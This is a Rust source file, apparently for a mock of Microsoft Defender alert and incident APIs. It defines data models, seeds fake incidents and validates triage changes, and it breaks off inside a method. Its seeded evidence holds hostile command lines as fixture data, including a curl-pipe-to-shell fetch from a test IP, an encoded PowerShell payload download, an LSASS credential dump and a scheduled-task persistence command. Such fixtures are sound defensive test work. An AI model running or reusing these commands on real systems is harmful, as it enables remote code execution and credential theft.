//! Alerts and incidents: one model behind three views, as at Microsoft.
//!
//! * MDE `/api/alerts` (upstream-apis.md §2.8): PascalCase enums, `alertCreationTime`, flat
//!   `evidence` rows — rendered here ([`Alert::mde_json`]), with the MDE handlers below.
//! * Graph `security/alerts_v2` and `security/incidents` (§4.5): camelCase enums, typed evidence —
//!   rendered in `graph/security.rs` from the same structs.
//! * Advanced hunting `AlertInfo` / `AlertEvidence` (§6.2, §6.3) read the same structs through
//!   `Tenant::alerts` ([`DetectionSource::hunting`], [`EvidenceKind::hunting`] name the columns'
//!   values).
//!
//! The world is seeded per tenant from its own RNG stream ([`seed`]), so adding alerts never
//! changed the machines, users or ids drawn before them.

use axum::body::Bytes;
use axum::extract::{Path, RawQuery, State};
use axum::http::{StatusCode, Uri};
use axum::response::{IntoResponse, Response};
use rand::rngs::StdRng;
use rand::seq::IndexedRandom;
use rand::{Rng, SeedableRng};
use serde_json::{Map, Value, json};
use time::{Duration, OffsetDateTime};

use super::{
    EntitySet, body_str, collection, context, forbidden, invalid_body, machine_json, machine_not_found, parse_body,
    set_context, with_tenant,
};
use crate::auth::{Caller, MdeCaller};
use crate::clock::fmt_mde;
use crate::errors::{self, json_response};
use crate::query::Params;
use crate::state::AppState;
use crate::world::{Machine, Tenant, User};

// ---------------------------------------------------------------------------------------------
// Vocabulary
// ---------------------------------------------------------------------------------------------

#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Severity {
    Informational,
    Low,
    Medium,
    High,
}

impl Severity {
    /// MDE and hunting spelling (`High`); Graph lowercases it.
    pub fn as_str(self) -> &'static str {
        match self {
            Severity::Informational => "Informational",
            Severity::Low => "Low",
            Severity::Medium => "Medium",
            Severity::High => "High",
        }
    }

    pub fn graph(self) -> &'static str {
        match self {
            Severity::Informational => "informational",
            Severity::Low => "low",
            Severity::Medium => "medium",
            Severity::High => "high",
        }
    }
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum AlertStatus {
    New,
    InProgress,
    Resolved,
}

impl AlertStatus {
    pub fn mde(self) -> &'static str {
        match self {
            AlertStatus::New => "New",
            AlertStatus::InProgress => "InProgress",
            AlertStatus::Resolved => "Resolved",
        }
    }

    pub fn graph(self) -> &'static str {
        match self {
            AlertStatus::New => "new",
            AlertStatus::InProgress => "inProgress",
            AlertStatus::Resolved => "resolved",
        }
    }

    /// Case-insensitive, as both MDE and Graph accept (§4.5 "accept enum input case-insensitively").
    pub fn parse(s: &str) -> Option<AlertStatus> {
        [AlertStatus::New, AlertStatus::InProgress, AlertStatus::Resolved]
            .into_iter()
            .find(|v| v.mde().eq_ignore_ascii_case(s))
    }
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Classification {
    TruePositive,
    InformationalExpectedActivity,
    FalsePositive,
}

impl Classification {
    pub const ALL: [Classification; 3] =
        [Classification::TruePositive, Classification::InformationalExpectedActivity, Classification::FalsePositive];

    pub fn mde(self) -> &'static str {
        match self {
            Classification::TruePositive => "TruePositive",
            Classification::InformationalExpectedActivity => "InformationalExpectedActivity",
            Classification::FalsePositive => "FalsePositive",
        }
    }

    pub fn graph(self) -> &'static str {
        match self {
            Classification::TruePositive => "truePositive",
            Classification::InformationalExpectedActivity => "informationalExpectedActivity",
            Classification::FalsePositive => "falsePositive",
        }
    }

    pub fn parse(s: &str) -> Option<Classification> {
        Self::ALL.into_iter().find(|c| c.mde().eq_ignore_ascii_case(s))
    }
}

/// Determinations, each valid under the classifications the docs list for it (update-alert,
/// batch-update-alerts): true positive → attack kinds; informational → expected activity;
/// false positive → not malicious / not enough data; `Other` under all three.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Determination {
    MultiStagedAttack,
    MaliciousUserActivity,
    CompromisedAccount,
    Malware,
    Phishing,
    UnwantedSoftware,
    SecurityTesting,
    LineOfBusinessApplication,
    ConfirmedActivity,
    NotMalicious,
    InsufficientData,
    Other,
}

impl Determination {
    pub const ALL: [Determination; 12] = [
        Determination::MultiStagedAttack,
        Determination::MaliciousUserActivity,
        Determination::CompromisedAccount,
        Determination::Malware,
        Determination::Phishing,
        Determination::UnwantedSoftware,
        Determination::SecurityTesting,
        Determination::LineOfBusinessApplication,
        Determination::ConfirmedActivity,
        Determination::NotMalicious,
        Determination::InsufficientData,
        Determination::Other,
    ];

    /// Every spelling Microsoft documents for the value (MDE names first; the docs themselves
    /// say "consider changing the enum name": CompromisedUser, ConfirmedUserActivity/
    /// ConfirmedActivity, Clean/NotMalicious; Graph incidents say notEnoughDataToValidate).
    fn spellings(self) -> &'static [&'static str] {
        match self {
            Determination::MultiStagedAttack => &["MultiStagedAttack"],
            Determination::MaliciousUserActivity => &["MaliciousUserActivity"],
            Determination::CompromisedAccount => &["CompromisedUser", "CompromisedAccount"],
            Determination::Malware => &["Malware"],
            Determination::Phishing => &["Phishing"],
            Determination::UnwantedSoftware => &["UnwantedSoftware"],
            Determination::SecurityTesting => &["SecurityTesting"],
            Determination::LineOfBusinessApplication => &["LineOfBusinessApplication"],
            Determination::ConfirmedActivity => &["ConfirmedUserActivity", "ConfirmedActivity"],
            Determination::NotMalicious => &["Clean", "NotMalicious"],
            Determination::InsufficientData => {
                &["InsufficientData", "NotEnoughDataToValidate", "NoEnoughDataToValidate"]
            }
            Determination::Other => &["Other"],
        }
    }

    pub fn parse(s: &str) -> Option<Determination> {
        Self::ALL.into_iter().find(|d| d.spellings().iter().any(|x| x.eq_ignore_ascii_case(s)))
    }

    /// MDE alert spelling (the batch-update-alerts table).
    pub fn mde(self) -> &'static str {
        self.spellings()[0]
    }

    /// Graph alerts_v2 spelling (upstream-apis.md §4.5 alert list).
    pub fn graph_alert(self) -> &'static str {
        match self {
            Determination::MultiStagedAttack => "multiStagedAttack",
            Determination::MaliciousUserActivity => "maliciousUserActivity",
            Determination::CompromisedAccount => "compromisedUser",
            Determination::Malware => "malware",
            Determination::Phishing => "phishing",
            Determination::UnwantedSoftware => "unwantedSoftware",
            Determination::SecurityTesting => "securityTesting",
            Determination::LineOfBusinessApplication => "lineOfBusinessApplication",
            Determination::ConfirmedActivity => "confirmedUserActivity",
            Determination::NotMalicious => "clean",
            Determination::InsufficientData => "insufficientData",
            Determination::Other => "other",
        }
    }

    /// Graph incident spelling (§4.5: incidents say notMalicious / notEnoughDataToValidate).
    pub fn graph_incident(self) -> &'static str {
        match self {
            Determination::CompromisedAccount => "compromisedAccount",
            Determination::ConfirmedActivity => "confirmedActivity",
            Determination::NotMalicious => "notMalicious",
            Determination::InsufficientData => "notEnoughDataToValidate",
            other => other.graph_alert(),
        }
    }

    pub fn allowed_under(self, c: Classification) -> bool {
        use Determination::*;
        match c {
            Classification::TruePositive => matches!(
                self,
                MultiStagedAttack
                    | MaliciousUserActivity
                    | CompromisedAccount
                    | Malware
                    | Phishing
                    | UnwantedSoftware
                    | Other
            ),
            Classification::InformationalExpectedActivity => {
                matches!(self, SecurityTesting | LineOfBusinessApplication | ConfirmedActivity | Other)
            }
            Classification::FalsePositive => {
                matches!(self, NotMalicious | InsufficientData | Other)
            }
        }
    }

    pub fn allowed_list(c: Classification) -> Vec<&'static str> {
        Self::ALL.into_iter().filter(|d| d.allowed_under(c)).map(Determination::mde).collect()
    }
}

/// Which engine raised the alert. Three spellings: MDE API, Graph, and the hunting tables.
// Some variants and the `hunting` spellings exist for other readers of the model (custom
// detection alerts, the hunting tables) before every one of them is wired in.
#[allow(dead_code)]
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum DetectionSource {
    Edr,
    Antivirus,
    SmartScreen,
    CustomTi,
    CustomDetection,
    AutomatedInvestigation,
}

impl DetectionSource {
    pub fn mde(self) -> &'static str {
        match self {
            DetectionSource::Edr => "WindowsDefenderAtp",
            DetectionSource::Antivirus => "WindowsDefenderAv",
            DetectionSource::SmartScreen => "WindowsDefenderSmartScreen",
            DetectionSource::CustomTi => "CustomerTI",
            DetectionSource::CustomDetection => "CustomDetection",
            DetectionSource::AutomatedInvestigation => "AutomatedInvestigation",
        }
    }

    pub fn graph(self) -> &'static str {
        match self {
            DetectionSource::Edr => "microsoftDefenderForEndpoint",
            DetectionSource::Antivirus => "antivirus",
            DetectionSource::SmartScreen => "smartScreen",
            DetectionSource::CustomTi => "customTi",
            DetectionSource::CustomDetection => "customDetection",
            DetectionSource::AutomatedInvestigation => "automatedInvestigation",
        }
    }

    /// The `DetectionSource` column of AlertInfo / AlertEvidence.
    #[allow(dead_code)]
    pub fn hunting(self) -> &'static str {
        match self {
            DetectionSource::Edr => "EDR",
            DetectionSource::Antivirus => "Antivirus",
            DetectionSource::SmartScreen => "SmartScreen",
            DetectionSource::CustomTi => "Custom TI",
            DetectionSource::CustomDetection => "Custom detection",
            DetectionSource::AutomatedInvestigation => "Automated investigation",
        }
    }
}

/// Which Defender product raised an alert: Defender XDR incidents group alerts of several
/// (Graph `serviceSource`, AlertInfo `ServiceSource`). Only Endpoint alerts sit on a machine.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ServiceSource {
    Endpoint,
    Identity,
    Office365,
    /// Defender for Cloud (container and workload alerts, as in seed 004).
    Cloud,
    CloudApps,
}

impl ServiceSource {
    /// Graph `serviceSource`.
    pub fn graph(self) -> &'static str {
        match self {
            ServiceSource::Endpoint => "microsoftDefenderForEndpoint",
            ServiceSource::Identity => "microsoftDefenderForIdentity",
            ServiceSource::Office365 => "microsoftDefenderForOffice365",
            ServiceSource::Cloud => "microsoftDefenderForCloud",
            ServiceSource::CloudApps => "microsoftDefenderForCloudApps",
        }
    }

    /// Graph `productName` and the AlertInfo `ServiceSource` column.
    pub fn product_name(self) -> &'static str {
        match self {
            ServiceSource::Endpoint => "Microsoft Defender for Endpoint",
            ServiceSource::Identity => "Microsoft Defender for Identity",
            ServiceSource::Office365 => "Microsoft Defender for Office 365",
            ServiceSource::Cloud => "Microsoft Defender for Cloud",
            ServiceSource::CloudApps => "Microsoft Defender for Cloud Apps",
        }
    }
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum EvidenceKind {
    File,
    Process,
    User,
    Ip,
    Url,
}

impl EvidenceKind {
    /// MDE `evidence[].entityType`.
    pub fn mde(self) -> &'static str {
        match self {
            EvidenceKind::File => "File",
            EvidenceKind::Process => "Process",
            EvidenceKind::User => "User",
            EvidenceKind::Ip => "Ip",
            EvidenceKind::Url => "Url",
        }
    }

    /// The `EntityType` column of AlertEvidence.
    #[allow(dead_code)]
    pub fn hunting(self) -> &'static str {
        match self {
            EvidenceKind::File => "File",
            EvidenceKind::Process => "Process",
            EvidenceKind::User => "User",
            EvidenceKind::Ip => "Ip",
            EvidenceKind::Url => "Url",
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Model
// ---------------------------------------------------------------------------------------------

/// One evidence row. Flat like MDE's `evidence[]`; Graph nests the same data by kind.
#[derive(Clone, Debug)]
pub struct Evidence {
    pub kind: EvidenceKind,
    pub created: OffsetDateTime,
    /// `Impacted` or `Related` (AlertEvidence.EvidenceRole; Graph `roles`).
    pub role: &'static str,
    /// `Malicious`, `Suspicious` or `NoThreatsFound` (Graph `verdict`).
    pub verdict: &'static str,
    /// `Detected`, `Blocked` or `Prevented` (MDE `detectionStatus`).
    pub detection_status: Option<&'static str>,
    pub sha1: Option<String>,
    pub sha256: Option<String>,
    pub file_name: Option<String>,
    pub file_path: Option<String>,
    pub file_size: Option<u64>,
    pub process_id: Option<u32>,
    pub process_command_line: Option<String>,
    pub process_creation_time: Option<OffsetDateTime>,
    pub parent_process_id: Option<u32>,
    pub parent_process_file_name: Option<String>,
    pub ip_address: Option<String>,
    pub url: Option<String>,
    pub account_name: Option<String>,
    pub domain_name: Option<String>,
    pub user_sid: Option<String>,
    pub aad_user_id: Option<String>,
    pub user_principal_name: Option<String>,
}

#[derive(Clone, Debug)]
pub struct Comment {
    pub comment: String,
    pub created_by: String,
    pub created: OffsetDateTime,
}

impl Comment {
    fn mde_json(&self) -> Value {
        json!({"comment": self.comment, "createdBy": self.created_by, "createdTime": fmt_mde(self.created)})
    }

    pub fn graph_json(&self) -> Value {
        json!({
            "comment": self.comment,
            "createdByDisplayName": self.created_by,
            "createdDateTime": fmt_mde(self.created),
        })
    }
}

/// A Defender for Endpoint alert on one machine.
#[derive(Clone, Debug)]
pub struct Alert {
    /// `da` + 18 digits + `_` + a signed 32-bit number, like Microsoft's.
    pub id: String,
    pub incident_id: u64,
    /// The product that raised it; only Endpoint alerts have a machine (`machine_id` is empty otherwise).
    pub service_source: ServiceSource,
    pub investigation_id: Option<u64>,
    pub investigation_state: &'static str,
    pub assigned_to: Option<String>,
    pub severity: Severity,
    pub status: AlertStatus,
    pub classification: Option<Classification>,
    pub determination: Option<Determination>,
    pub detection_source: DetectionSource,
    pub detector_id: String,
    pub category: &'static str,
    pub threat_family_name: Option<&'static str>,
    pub title: String,
    pub description: String,
    pub recommended_actions: String,
    pub mitre_techniques: Vec<&'static str>,
    pub created: OffsetDateTime,
    pub first_event: OffsetDateTime,
    pub last_event: OffsetDateTime,
    pub last_update: OffsetDateTime,
    pub resolved: Option<OffsetDateTime>,
    pub machine_id: String,
    pub computer_dns_name: String,
    pub rbac_group_name: String,
    pub aad_tenant_id: String,
    /// The user the alert is about (index into `Tenant::users` at seed time, resolved here).
    pub user: Option<AlertUser>,
    pub comments: Vec<Comment>,
    pub evidence: Vec<Evidence>,
}

#[derive(Clone, Debug)]
pub struct AlertUser {
    pub account_name: String,
    pub domain_name: String,
    pub user_sid: String,
    pub aad_user_id: String,
    pub user_principal_name: String,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum IncidentStatus {
    Active,
    InProgress,
    Resolved,
    Redirected,
}

impl IncidentStatus {
    pub fn graph(self) -> &'static str {
        match self {
            IncidentStatus::Active => "active",
            IncidentStatus::InProgress => "inProgress",
            IncidentStatus::Resolved => "resolved",
            IncidentStatus::Redirected => "redirected",
        }
    }

    pub fn parse(s: &str) -> Option<IncidentStatus> {
        [IncidentStatus::Active, IncidentStatus::InProgress, IncidentStatus::Resolved, IncidentStatus::Redirected]
            .into_iter()
            .find(|v| v.graph().eq_ignore_ascii_case(s))
    }
}

/// A Defender XDR incident: alerts that belong together. Severity is the highest alert
/// severity, as in the portal.
#[derive(Clone, Debug)]
pub struct Incident {
    pub id: u64,
    pub display_name: String,
    pub description: String,
    pub created: OffsetDateTime,
    pub last_update: OffsetDateTime,
    pub resolved: Option<OffsetDateTime>,
    pub status: IncidentStatus,
    pub assigned_to: Option<String>,
    pub classification: Option<Classification>,
    pub determination: Option<Determination>,
    pub custom_tags: Vec<String>,
    pub system_tags: Vec<String>,
    pub comments: Vec<Comment>,
    pub redirect_incident_id: Option<u64>,
    /// Every change made through Graph, oldest first: `{time, by, changes}` (state dump only;
    /// it lets a test see that a change was made exactly once).
    pub history: Vec<Value>,
}

impl Incident {
    pub fn alerts<'a>(&self, all: &'a [Alert]) -> impl Iterator<Item = &'a Alert> + use<'a> {
        let id = self.id;
        all.iter().filter(move |a| a.incident_id == id)
    }

    pub fn severity(&self, all: &[Alert]) -> Severity {
        self.alerts(all).map(|a| a.severity).max().unwrap_or(Severity::Informational)
    }
}

// ---------------------------------------------------------------------------------------------
// Seeding
// ---------------------------------------------------------------------------------------------

pub const INCIDENTS_PER_TENANT: usize = 10;

/// One kind of attack story: what the alert says and which evidence it carries.
struct Scenario {
    title: &'static str,
    description: &'static str,
    category: &'static str,
    mitre: &'static [&'static str],
    source: DetectionSource,
    severity: Severity,
    threat: Option<&'static str>,
    /// File name + path of the malicious file, when there is one.
    file: Option<(&'static str, &'static str)>,
    /// Command line of the process, when there is one.
    process: Option<&'static str>,
    ip: bool,
    url: Option<&'static str>,
    windows_only: bool,
}

const SCENARIOS: &[Scenario] = &[
    Scenario {
        title: "Suspicious PowerShell command line",
        description: "A suspicious PowerShell activity was observed on the machine. It downloaded and ran a script from the internet.",
        category: "Execution",
        mitre: &["T1059.001", "T1105"],
        source: DetectionSource::Edr,
        severity: Severity::Medium,
        threat: None,
        file: Some(("invoke-update.ps1", "C:\\Users\\Public\\Downloads")),
        process: Some("powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"),
        ip: false,
        url: Some("http://update-cdn.example-bad.net/payload.ps1"),
        windows_only: true,
    },
    Scenario {
        title: "'Emotet' malware was detected",
        description: "Malware was detected on the machine and quarantined by Microsoft Defender Antivirus.",
        category: "Malware",
        mitre: &["T1204.002"],
        source: DetectionSource::Antivirus,
        severity: Severity::High,
        threat: Some("Emotet"),
        file: Some(("invoice_0423.doc.exe", "C:\\Users\\Public\\Documents")),
        process: None,
        ip: false,
        url: None,
        windows_only: true,
    },
    Scenario {
        title: "Communication with a known command-and-control server",
        description: "A process connected to an IP address associated with a command-and-control infrastructure.",
        category: "CommandAndControl",
        mitre: &["T1071.001", "T1573"],
        source: DetectionSource::Edr,
        severity: Severity::High,
        threat: Some("CobaltStrike"),
        file: Some(("rundll32.exe", "C:\\Windows\\System32")),
        process: Some("rundll32.exe C:\\ProgramData\\svc.dll,Start"),
        ip: true,
        url: None,
        windows_only: true,
    },
    Scenario {
        title: "Suspicious access to LSASS service",
        description: "A process accessed the memory of the Local Security Authority Subsystem Service, possibly to dump credentials.",
        category: "CredentialAccess",
        mitre: &["T1003.001"],
        source: DetectionSource::Edr,
        severity: Severity::High,
        threat: Some("Mimikatz"),
        file: Some(("procdump64.exe", "C:\\Temp")),
        process: Some("procdump64.exe -accepteula -ma lsass.exe C:\\Temp\\l.dmp"),
        ip: false,
        url: None,
        windows_only: true,
    },
    Scenario {
        title: "Ransomware behavior detected in the file system",
        description: "A process encrypted many files and dropped ransom notes.",
        category: "Ransomware",
        mitre: &["T1486", "T1490"],
        source: DetectionSource::Edr,
        severity: Severity::High,
        threat: Some("LockBit"),
        file: Some(("lb3.exe", "C:\\Users\\Public")),
        process: Some("lb3.exe -pass 3f2a -path C:\\"),
        ip: false,
        url: None,
        windows_only: true,
    },
    Scenario {
        title: "Connection to a custom network indicator",
        description: "An endpoint connected to a URL or domain in your custom indicators list.",
        category: "SuspiciousActivity",
        mitre: &["T1566.002"],
        source: DetectionSource::CustomTi,
        severity: Severity::Medium,
        threat: None,
        file: None,
        process: None,
        ip: true,
        url: Some("https://login-microsoftonline.example-phish.com/common/oauth2"),
        windows_only: false,
    },
    Scenario {
        title: "Suspicious shell script execution",
        description: "A shell script downloaded content with curl and executed it.",
        category: "Execution",
        mitre: &["T1059.004", "T1105"],
        source: DetectionSource::Edr,
        severity: Severity::Medium,
        threat: None,
        file: Some(("x.sh", "/tmp")),
        process: Some("bash -c \"curl -fsSL http://203.0.113.50/x.sh | sh\""),
        ip: true,
        url: None,
        windows_only: false,
    },
    Scenario {
        title: "Suspicious scheduled task",
        description: "A scheduled task was created to run a binary from a user-writable folder at logon.",
        category: "Persistence",
        mitre: &["T1053.005"],
        source: DetectionSource::Edr,
        severity: Severity::Low,
        threat: None,
        file: Some(("updater.exe", "C:\\Users\\Public\\AppData")),
        process: Some("schtasks.exe /create /tn Updater /tr C:\\Users\\Public\\AppData\\updater.exe /sc onlogon"),
        ip: false,
        url: None,
        windows_only: true,
    },
    Scenario {
        title: "Potentially unwanted application detected",
        description: "A potentially unwanted application (adware bundler) was detected.",
        category: "UnwantedSoftware",
        mitre: &[],
        source: DetectionSource::Antivirus,
        severity: Severity::Low,
        threat: Some("PUA:Win32/Bundlore"),
        file: Some(("free_pdf_setup.exe", "C:\\Users\\Public\\Downloads")),
        process: None,
        ip: false,
        url: None,
        windows_only: true,
    },
    Scenario {
        title: "Phishing site blocked by SmartScreen",
        description: "Microsoft Defender SmartScreen blocked a known phishing site.",
        category: "InitialAccess",
        mitre: &["T1566.002"],
        source: DetectionSource::SmartScreen,
        severity: Severity::Informational,
        threat: None,
        file: None,
        process: None,
        ip: false,
        url: Some("https://contoso-payroll.example-phish.com/login"),
        windows_only: true,
    },
];

pub(crate) fn digits(rng: &mut StdRng, n: usize) -> String {
    (0..n).map(|_| char::from(b'0' + rng.random_range(0..10u8))).collect()
}

fn hex_string(rng: &mut StdRng, bytes: usize) -> String {
    (0..bytes).map(|_| format!("{:02x}", rng.random::<u8>())).collect()
}

pub(crate) fn alert_user(t_name: &str, u: &User) -> AlertUser {
    AlertUser {
        account_name: u.mail_nickname.clone(),
        domain_name: t_name.to_uppercase(),
        user_sid: format!(
            "S-1-5-21-1004336348-1177238915-682003330-{}",
            1100 + u.employee_id.as_deref().unwrap_or("E0").len() + u.mail_nickname.len() * 7
        ),
        aad_user_id: u.id.clone(),
        user_principal_name: u.user_principal_name.clone(),
    }
}

pub(crate) fn empty_evidence(kind: EvidenceKind, created: OffsetDateTime) -> Evidence {
    Evidence {
        kind,
        created,
        role: "Related",
        verdict: "Suspicious",
        detection_status: None,
        sha1: None,
        sha256: None,
        file_name: None,
        file_path: None,
        file_size: None,
        process_id: None,
        process_command_line: None,
        process_creation_time: None,
        parent_process_id: None,
        parent_process_file_name: None,
        ip_address: None,
        url: None,
        account_name: None,
        domain_name: None,
        user_sid: None,
        aad_user_id: None,
        user_principal_name: None,
    }
}

fn build_evidence(
    rng: &mut StdRng,
    s: &Scenario,
    user: &AlertUser,
    at: OffsetDateTime,
    detected: bool,
) -> Vec<Evidence> {
    let mut out = Vec::new();
    let status = if detected { "Detected" } else { "Blocked" };
    let (sha1, sha256) = (hex_string(rng, 20), hex_string(rng, 32));
    if let Some((name, path)) = s.file {
        let mut e = empty_evidence(EvidenceKind::File, at);
        e.role = "Impacted";
        e.verdict = "Malicious";
        e.detection_status = Some(status);
        e.sha1 = Some(sha1.clone());
        e.sha256 = Some(sha256.clone());
        e.file_name = Some(name.into());
        e.file_path = Some(path.into());
        e.file_size = Some(rng.random_range(20_000..4_000_000));
        out.push(e);
    }
    if let Some(cmd) = s.process {
        let mut e = empty_evidence(EvidenceKind::Process, at);
        e.detection_status = Some(status);
        e.process_id = Some(rng.random_range(1000..20000));
        e.process_command_line = Some(cmd.into());
        e.process_creation_time = Some(at - Duration::seconds(rng.random_range(1..120)));
        e.parent_process_id = Some(rng.random_range(500..1000));
        e.parent_process_file_name = Some(if s.windows_only { "explorer.exe" } else { "sshd" }.into());
        let first = cmd.split_whitespace().next().unwrap_or(cmd);
        e.file_name = Some(first.into());
        e.sha1 = Some(sha1);
        e.sha256 = Some(sha256);
        e.account_name = Some(user.account_name.clone());
        e.domain_name = Some(user.domain_name.clone());
        out.push(e);
    }
    if s.ip {
        let mut e = empty_evidence(EvidenceKind::Ip, at);
        e.verdict = "Malicious";
        e.ip_address = Some(format!("203.0.113.{}", rng.random_range(1..255u8)));
        out.push(e);
    }
    if let Some(url) = s.url {
        let mut e = empty_evidence(EvidenceKind::Url, at);
        e.verdict = "Malicious";
        e.url = Some(url.into());
        out.push(e);
    }
    let mut u = empty_evidence(EvidenceKind::User, at);
    u.role = "Impacted";
    u.verdict = "Suspicious";
    u.account_name = Some(user.account_name.clone());
    u.domain_name = Some(user.domain_name.clone());
    u.user_sid = Some(user.user_sid.clone());
    u.aad_user_id = Some(user.aad_user_id.clone());
    u.user_principal_name = Some(user.user_principal_name.clone());
    out.push(u);
    out
}

/// Seeds a tenant's alerts and incidents: [`INCIDENTS_PER_TENANT`] incidents of 1–4 alerts on
/// 1–2 machines each, every status present (incident 0 stays New and unassigned; incident 1 is
/// resolved as a true positive; incident 2 in progress), timestamps in the last 14 days.
pub fn seed(
    seed: u64,
    tenant_index: usize,
    tenant_id: &str,
    tenant_name: &str,
    machines: &[Machine],
    users: &[User],
    now: OffsetDateTime,
) -> (Vec<Alert>, Vec<Incident>) {
    let mut rng =
        StdRng::seed_from_u64(seed ^ (tenant_index as u64 + 1).wrapping_mul(0xA1E7_5EED_0000_0001) ^ 0x1DC1_DE47);
    let mut alerts = Vec::new();
    let mut incidents = Vec::new();
    let base_incident: u64 = rng.random_range(1_000..90_000);
    let analysts = [format!("secops@{tenant_name}.onmicrosoft.com"), format!("tier2@{tenant_name}.onmicrosoft.com")];
    for i in 0..INCIDENTS_PER_TENANT {
        let incident_id = base_incident + i as u64 * rng.random_range(1..40u64);
        // Machines 0..6 are online and cover every platform; mix in the rest.
        let m0 = if i < 6 { &machines[i % machines.len()] } else { &machines[rng.random_range(0..machines.len())] };
        let applicable: Vec<&Scenario> = SCENARIOS.iter().filter(|s| !s.windows_only || m0.is_windows()).collect();
        let user = &users[rng.random_range(0..users.len())];
        let au = alert_user(tenant_name, user);
        let status = match i {
            0 => AlertStatus::New,
            1 => AlertStatus::Resolved,
            2 => AlertStatus::InProgress,
            _ => *[AlertStatus::New, AlertStatus::New, AlertStatus::InProgress, AlertStatus::Resolved]
                .choose(&mut rng)
                .unwrap_or(&AlertStatus::New),
        };
        let count = if i == 0 { 3 } else { rng.random_range(1..=4usize) };
        let start = now - Duration::minutes(rng.random_range(60..14 * 24 * 60));
        let mut first_alert_title = String::new();
        let mut classification = None;
        let mut determination = None;
        if status == AlertStatus::Resolved {
            let c = if i == 1 {
                Classification::TruePositive
            } else {
                *Classification::ALL.choose(&mut rng).unwrap_or(&Classification::TruePositive)
            };
            let options: Vec<Determination> = Determination::ALL.into_iter().filter(|d| d.allowed_under(c)).collect();
            classification = Some(c);
            determination = options.choose(&mut rng).copied();
        }
        let assigned = match status {
            AlertStatus::New => None,
            _ => analysts.choose(&mut rng).cloned(),
        };
        let mut last = start;
        for k in 0..count {
            // A second machine joins multi-alert incidents (lateral movement).
            let m = if k >= 2 { &machines[(i * 7 + k) % machines.len()] } else { m0 };
            let scenarios: Vec<&Scenario> =
                applicable.iter().copied().filter(|s| !s.windows_only || m.is_windows()).collect();
            let s: &Scenario = scenarios.choose(&mut rng).copied().unwrap_or(&SCENARIOS[5]);
            let created = start + Duration::minutes(k as i64 * rng.random_range(3..90));
            let first_event = created - Duration::minutes(rng.random_range(1..30));
            last = last.max(created);
            let ticks = format!("63{}", digits(&mut rng, 16));
            let tail: i32 = rng.random();
            let evidence = build_evidence(&mut rng, s, &au, first_event, status != AlertStatus::Resolved);
            if k == 0 {
                first_alert_title = s.title.to_string();
            }
            let resolved = (status == AlertStatus::Resolved)
                .then(|| created + Duration::hours(rng.random_range(1..48)).min(now - created));
            alerts.push(Alert {
                id: format!("da{ticks}_{tail}"),
                incident_id,
                service_source: ServiceSource::Endpoint,
                investigation_id: (s.source != DetectionSource::CustomTi).then(|| rng.random_range(1..90_000u64)),
                investigation_state: match status {
                    AlertStatus::Resolved => "SuccessfullyRemediated",
                    AlertStatus::InProgress => "Running",
                    AlertStatus::New => "PendingApproval",
                },
                assigned_to: assigned.clone(),
                severity: s.severity,
                status,
                classification,
                determination,
                detection_source: s.source,
                detector_id: crate::world::guid(&mut rng),
                category: s.category,
                threat_family_name: s.threat,
                title: s.title.to_string(),
                description: s.description.to_string(),
                recommended_actions:
                    "Isolate the device, collect an investigation package and review the evidence timeline.".into(),
                mitre_techniques: s.mitre.to_vec(),
                created,
                first_event,
                last_event: created,
                last_update: resolved.unwrap_or(created),
                resolved,
                machine_id: m.id.clone(),
                computer_dns_name: m.computer_dns_name.clone(),
                rbac_group_name: m.rbac_group_name.clone(),
                aad_tenant_id: tenant_id.to_string(),
                user: Some(au.clone()),
                comments: Vec::new(),
                evidence,
            });
        }
        let alerts_here = alerts.iter().filter(|a| a.incident_id == incident_id).count();
        let resolved = (status == AlertStatus::Resolved).then_some(last);
        incidents.push(Incident {
            id: incident_id,
            display_name: if alerts_here > 1 {
                format!(
                    "Multi-stage incident involving {} on one endpoint{}",
                    first_alert_title,
                    if count > 2 { " and others" } else { "" }
                )
            } else {
                format!("{first_alert_title} on one endpoint")
            },
            description: String::new(),
            created: start,
            last_update: resolved.unwrap_or(last),
            resolved,
            status: match status {
                AlertStatus::New => IncidentStatus::Active,
                AlertStatus::InProgress => IncidentStatus::InProgress,
                AlertStatus::Resolved => IncidentStatus::Resolved,
            },
            assigned_to: assigned,
            classification,
            determination,
            custom_tags: Vec::new(),
            system_tags: Vec::new(),
            comments: Vec::new(),
            redirect_incident_id: None,
            history: Vec::new(),
        });
    }
    (alerts, incidents)
}

// ---------------------------------------------------------------------------------------------
// Rules shared by every view
// ---------------------------------------------------------------------------------------------

/// A validated change to an alert or an incident (from MDE or Graph).
#[derive(Clone, Debug, Default)]
pub struct Triage {
    pub assigned_to: Option<Option<String>>,
    pub classification: Option<Option<Classification>>,
    pub determination: Option<Option<Determination>>,
    pub comment: Option<String>,
}

/// Why a classification/determination pair was refused (rendered per API family).
pub fn check_pair(
    current_c: Option<Classification>,
    current_d: Option<Determination>,
    t: &Triage,
) -> Result<(Option<Classification>, Option<Determination>), String> {
    let c = t.classification.unwrap_or(current_c);
    // Changing the classification without a determination clears a determination that no
    // longer fits (the docs say omitted properties "are recalculated").
    let d = match t.determination {
        Some(d) => d,
        None => current_d.filter(|d| c.is_some_and(|c| d.allowed_under(c))),
    };
    match (c, d) {
        (None, Some(d)) => Err(format!(
            "Determination '{}' requires a classification; set classification in the same request.",
            d.mde()
        )),
        (Some(c), Some(d)) if !d.allowed_under(c) => Err(format!(
            "Determination '{}' is not valid for classification '{}'. Allowed: {}.",
            d.mde(),
            c.mde(),
            Determination::allowed_list(c).join(", ")
        )),
        _ => Ok((c, d)),
    }
}

impl Alert {
    /// MDE's `/api/alerts` serves Defender for Endpoint's alerts only; Graph serves every product's.
    pub fn is_endpoint(&self) -> bool {
        self.service_source == ServiceSource::Endpoint
    }

    /// Applies a validated change: status transitions keep `resolvedTime` consistent.
    pub fn apply(
        &mut self,
        status: Option<AlertStatus>,
        pair: (Option<Classification>, Option<Determination>),
        t: &Triage,
        by: &str,
